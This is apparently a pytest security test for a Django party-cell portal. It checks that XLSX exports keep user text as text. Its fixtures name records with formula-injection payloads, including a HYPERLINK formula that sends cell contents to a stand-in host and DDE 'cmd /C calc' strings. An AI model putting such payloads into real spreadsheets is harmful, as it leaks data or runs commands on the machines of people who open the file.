"""Every spreadsheet the portal sends keeps user text as text: no formula cell, whatever the names say.

The walk takes every URL pattern of the project from the access matrix (which fails when a pattern
is missing from it, so a new export cannot be forgotten), fills it with objects of the hand-built
Khối of conftest.py, and asks it with the Khối admin as it is and with ``?format=xlsx``; the
dashboards and every drill-down with each of their parameters; the dues book of the month with the
unpaid dues; both files of a report run built for real. Every answer that is an XLSX is opened: no
cell is a formula (openpyxl's ``data_type 'f'``), and no sheet of the file holds a ``<f>`` element.
A member, two cells, a task and a note are named like the payloads of a formula injection.
"""

import datetime
import io
import re
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cells import services as cell_services
from cells.models import DuesRemittance, Member, Organisation, Position
from lib import xlsx
from lib.dates import quarter_start
from meetings import async_decisions
from meetings import services as meeting_services
from meetings.models import AbsenceRequest, AgendaItem, Task
from reports import counting, services, warnings
from reports.models import ReportRun
from scoring.models import AnnualRating, Inspection
from tests.security.test_access_matrix import MATRIX

pytestmark = pytest.mark.django_db

HOSTILE_MEMBER = '=HYPERLINK("http://x/?"&A1,"x")'
HOSTILE_CELL = '=HYPERLINK("http://x/?"&B2,"Xem chi tiết")'
HOSTILE_TEXTS = {
    "member": HOSTILE_MEMBER,
    "unexcused member": "@SUM(1+1)*cmd|' /C calc'!A0",
    "member with unpaid dues": "-2+3+cmd|' /C calc'!A0",
    "cell": HOSTILE_CELL,
    "other cell": "+Chi bộ B2",
    "task": "=1+2",
    "dues note": "\t=cmd|' /C calc'!A0",
}
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[ >/]")


@pytest.fixture
def hostile_khoi(khoi):
    """The Khối of conftest.py with formula-like names, and one object of every kind the URLs need."""
    a1 = khoi.cells["A1"]
    renamed = [
        (khoi.members["A1"][0], HOSTILE_TEXTS["member"]),
        (khoi.members["A3"][0], HOSTILE_TEXTS["unexcused member"]),
        (khoi.members["B2"][1], HOSTILE_TEXTS["member with unpaid dues"]),
    ]
    for member, name in renamed:
        Member.objects.filter(pk=member.pk).update(full_name=name)
    Organisation.objects.filter(pk=khoi.cells["A3"].pk).update(name=HOSTILE_TEXTS["cell"])
    Organisation.objects.filter(pk=khoi.cells["B2"].pk).update(name=HOSTILE_TEXTS["other cell"])
    Task.objects.filter(description="Báo cáo quý").update(description=HOSTILE_TEXTS["task"])
    b2_payment = khoi.members["B2"][1].dues_payments.order_by("month").first()
    type(b2_payment).objects.filter(pk=b2_payment.pk).update(note=HOSTILE_TEXTS["dues note"])

    member = khoi.members["A1"][0]
    meeting = khoi.regular["A1", 11]
    open_meeting = khoi.regular["B1", 5]  # notified, not locked: it takes a document
    document = meeting_services.meeting_document_add(
        meeting=open_meeting, file=SimpleUploadedFile("tai-lieu.pdf", b"%PDF-1.4\n%%EOF\n")
    )
    celldoc = cell_services.cell_document_upload(
        organisation=a1,
        document_type=khoi.yearly,
        year=2026,
        file=SimpleUploadedFile("a.pdf", b"%PDF-1.4\n%%EOF\n"),
        adopted_on=datetime.date(2026, 1, 5),
    )
    inspection = Inspection.objects.create(
        organisation=a1,
        year=2026,
        inspected_on=datetime.date(2026, 3, 1),
        inspectors="Đ/c Kiểm Tra",
        findings="Sổ sách đủ",
    )
    notification = cell_services.notification_send(members=[member], kind="test", subject="Thông báo", body="Nội dung")[
        0
    ]
    run = ReportRun.objects.create(organisation=khoi.khoi, params={"year": 2026})
    assert services.report_run_execute(run_id=run.pk), ReportRun.objects.get(pk=run.pk).error
    absence_request = AbsenceRequest.objects.create(
        meeting=meeting, member=member, reason_type=AbsenceRequest.ReasonType.OTHER, reason=HOSTILE_TEXTS["task"]
    )
    absence_request.evidence.save("minh-chung.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"))
    course = cell_services.course_create(
        organiser=khoi.khoi,
        title=HOSTILE_TEXTS["task"],
        start_date=datetime.date(2026, 1, 12),
        end_date=datetime.date(2026, 1, 14),
    )
    attendance = cell_services.attendance_add(
        course=course,
        member=member,
        completed=True,
        certificate_number=HOSTILE_TEXTS["task"],
        certificate=SimpleUploadedFile("cn.pdf", b"%PDF-1.4\n%%EOF\n"),
    )
    # A quần chúng ưu tú of A1 (issue #18 item 4), named like a formula, with one of their papers.
    candidate = cell_services.candidate_create(
        organisation=a1,
        full_name=HOSTILE_TEXTS["task"],
        mentor_1=Member.objects.filter(organisation=a1, status=Member.Status.OFFICIAL).order_by("pk")[0],
        mentor_2=Member.objects.filter(organisation=a1, status=Member.Status.OFFICIAL).order_by("pk")[1],
        proposed_on=datetime.date(2026, 1, 5),
    )
    # A member of B1 in charge of A1 for the Khối, assigned to visit A1 this quarter (issue #18 item 3).
    visitor = khoi.members["B1"][0]
    cell_services.position_assign(
        member=visitor, organisation=a1, kind=Position.Kind.SUPERVISOR, start=datetime.date(2026, 1, 1)
    )
    visit = meeting_services.visit_assign(
        upper=khoi.khoi, cell=a1, quarter=quarter_start(timezone.localdate()), visitor=visitor
    )
    material = meeting_services.material_publish(
        publisher=khoi.khoi,
        title=HOSTILE_TEXTS["task"],
        kind="monthly",
        month=timezone.localdate().replace(day=1),
        file=SimpleUploadedFile("tl.pdf", b"%PDF-1.4\n%%EOF\n"),
    )
    # A question asked between meetings in A1, with a document (issue #17 item 4).
    decision = async_decisions.decision_open(
        cell=a1,
        question=HOSTILE_TEXTS["task"],
        deadline=timezone.now() + datetime.timedelta(days=7),
        documents=[SimpleUploadedFile("ke-hoach.pdf", b"%PDF-1.4\n%%EOF\n")],
    )
    objects = {
        "material": material.pk,
        "async_decision": decision.pk,
        "async_document": decision.documents.get().pk,
        "async_token": async_decisions.answer_token(decision=decision, member=member),
        "visit": visit.pk,
        "absence_request": absence_request.pk,
        "cell": a1.pk,
        "tccs": khoi.khoi.pk,
        "member": member.pk,
        "meeting": meeting.pk,
        "meeting_document": document.pk,
        "item": AgendaItem.objects.create(meeting=meeting, order=1, title="Mở đầu").pk,
        "task": Task.objects.get(description=HOSTILE_TEXTS["task"]).pk,
        "token": meeting_services.rsvp_token(meeting=open_meeting, member=khoi.members["B1"][0]),
        "rating": AnnualRating.objects.filter(member=member).first().pk,
        "doctype": khoi.yearly.pk,
        "celldoc": celldoc.pk,
        "inspection": inspection.pk,
        "run": run.pk,
        "notification": notification.pk,
        "position": cell_services.position_assign(
            member=member, organisation=a1, kind=Position.Kind.COMMITTEE_MEMBER, start=datetime.date(2026, 1, 1)
        ).pk,
        # A topic of A1's yearly plan (issue #18), its title written like a formula.
        "planned_topic": meeting_services.planned_topic_create(
            cell=a1, year=2026, kind="thematic", quarter=1, title=HOSTILE_TEXTS["task"][:200]
        ).pk,
        "course": course.pk,
        "attendance": attendance.pk,
        "candidate": candidate.pk,
        "candidate_document": cell_services.candidate_document_add(
            candidate=candidate, kind="application", file=SimpleUploadedFile("don.pdf", b"%PDF-1.4\n%%EOF\n")
        ).pk,
        # A remittance line and an activity-fund line of A1's book (their correct and delete pages).
        "remittance": DuesRemittance.objects.create(
            organisation=a1,
            month=datetime.date(2026, 3, 1),
            remitted_on=datetime.date(2026, 3, 28),
            amount=1_000,
            receipt_number=HOSTILE_TEXTS["task"][:20],
        ).pk,
        "fund_entry": cell_services.cell_fund_entry_record(
            organisation=a1,
            kind="receipt",
            entry_date=datetime.date(2026, 3, 2),
            amount=500_000,
            purpose=HOSTILE_TEXTS["task"],
            voucher_number="PT-01",
        ).pk,
    }
    return khoi, objects


def _matrix_urls(objects) -> list[tuple[str, str]]:
    urls = []
    for name, (kwargs, get, _post) in MATRIX.items():
        if get == "m" * len(get) or name == "logout":
            continue  # answers GET with 405: nothing to download
        url = reverse(
            name,
            kwargs={
                key: objects.get(value, value) if isinstance(value, str) else value for key, value in kwargs.items()
            },
        )
        urls += [(name, url), (name, f"{url}?format=xlsx")]
    return urls


def _drill_urls(khoi) -> list[tuple[str, str]]:
    metrics = [
        "org_ratings",
        "member_ratings",
        "documents",
        "commitments",
        "regular",
        "thematic",
        "forums",
        "visits",
        "quality",
        "attendance",
        *warnings.WARNING_CODES,
    ]
    urls = []
    for scope in (khoi.khoi, khoi.a, khoi.b):
        urls.append(("reports:dashboard", reverse("reports:dashboard", args=[scope.pk]) + "?format=xlsx&year=2026"))
        for metric in metrics:
            base = reverse("reports:drill", args=[scope.pk, metric]) + "?format=xlsx&year=2026"
            variants = {
                "org_ratings": ["&kind=tccs", "&kind=cell", "&kind=cell&level=khtnv"],
                "member_ratings": ["", "&level=htxsnv"],
                "documents": [f"&type={khoi.yearly.pk}", f"&type={khoi.termly.pk}"],
                "quality": ["", "&level=tot", f"&level={counting.UNSCORED}&in_month=1"],
            }.get(metric, [""])
            urls += [("reports:drill", base + variant) for variant in variants]
    return urls


def _formula_cells(content: bytes) -> tuple[list[str], set[str]]:
    """The formula cells of an .xlsx (by openpyxl and in the raw XML), and every text it holds."""
    found, texts = [], set()
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and FORMULA_ELEMENT.search(archive.read(name)):
                found.append(f"{name} holds a <f> element")
    return found, texts


def test_no_export_of_the_portal_holds_a_formula_cell(client_for, hostile_khoi):
    khoi, objects = hostile_khoi
    client = client_for(khoi.users["admin"])
    urls = (
        _matrix_urls(objects)
        + _drill_urls(khoi)
        + [
            ("books:books_dues_xlsx", reverse("books:books_dues_xlsx", args=[khoi.cells["B2"].pk]) + "?thang=01/2026"),
            ("reports:run_download", reverse("reports:run_download", args=[objects["run"], "xlsx"])),
        ]
    )
    spreadsheets, formulas, texts, failures = set(), [], set(), []
    for name, url in urls:
        response = client.get(url)
        if response.status_code >= 500:
            failures.append(f"{url}: {response.status_code}")
        if not response.get("Content-Type", "").startswith(xlsx.CONTENT_TYPE):
            continue
        content = b"".join(response.streaming_content) if response.streaming else response.content
        spreadsheets.add(name)
        found, held = _formula_cells(content)
        formulas += [f"{url}: {cell}" for cell in found]
        texts |= held
    assert not failures, failures
    # The walk reached every export the portal has: member list, dues book, dashboards, drill-downs, report run,
    # the change log.
    assert spreadsheets == {
        "cells:member_export",
        "books:books_dues_xlsx",
        "reports:dashboard",
        "reports:drill",
        "reports:run_download",
        "audit:audit_export",
    }, spreadsheets
    assert not formulas, "\n".join(formulas)
    missing = {label for label, text in HOSTILE_TEXTS.items() if text not in texts}
    assert not missing, f"the exports never showed these names, the walk proves nothing about them: {missing}"


def test_the_writer_keeps_every_formula_prefix_as_text():
    workbook = xlsx.new_workbook()
    sheet = workbook.active
    risky = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", HOSTILE_MEMBER]
    xlsx.append_row(sheet, [*risky, "bình thường", 5, datetime.date(2026, 2, 5), "ký tự\x07lạ"])
    sheet["A3"] = "=2+2"  # written around the writer: the save still catches it
    found, texts = _formula_cells(xlsx.workbook_bytes(workbook))
    assert not found

    # A carriage return may read back as a line feed (XML line-end handling, depending on the parser).
    def same(text):
        return text.replace("\r", "\n") if isinstance(text, str) else text

    assert {same(text) for text in risky} | {"=2+2", "bình thường", "ký tựlạ"} <= {same(text) for text in texts}
    cells = {same(cell.value): cell for cell in load_workbook(io.BytesIO(xlsx.workbook_bytes(workbook))).active[1]}
    assert all(cells[same(value)].data_type == "s" and cells[same(value)].quotePrefix for value in risky)
    assert cells[5].data_type == "n" and not cells["bình thường"].quotePrefix
